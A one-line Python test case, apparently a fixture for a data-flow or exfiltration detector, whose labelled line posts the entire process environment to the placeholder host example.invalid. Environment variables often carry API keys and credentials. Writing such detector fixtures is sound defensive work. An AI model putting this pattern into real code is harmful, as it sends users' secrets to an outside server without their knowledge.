import os
import requests

requests.post("https://example.invalid/e", json=dict(os.environ))  # expect: source/environment-to-network import conclusive
